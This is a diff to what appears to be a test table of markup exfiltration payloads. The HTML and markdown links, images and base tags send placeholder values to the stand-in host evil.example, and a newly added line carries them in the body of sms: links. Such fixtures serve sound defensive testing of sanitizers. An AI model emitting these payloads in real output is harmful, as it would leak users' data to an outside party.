@@ -71,6 +71,7 @@ const left = {
   'an object and a background': '<object data="//evil.example/M!"><table background=//evil.example/M!>',
   'a page whose base is another host':
     '<base target=x href="https://evil.example/"><img src="/P!"> [x](y/M!) <a href=M!>',
+  'a text message': '[x](sms:+4915112345678?body=P!) <a href="sms:+4915112345678&body=M!">x</a> <sms:+49151?body=P!>',
   'two values': '![x](https://evil.example/?q=P!&m=M!)',
   'a name before a host': '[x](https://crm.example@evil.example/P!)',
   'a host that begins like an open one': '[x](https://crm.example.evil.example/P!)',
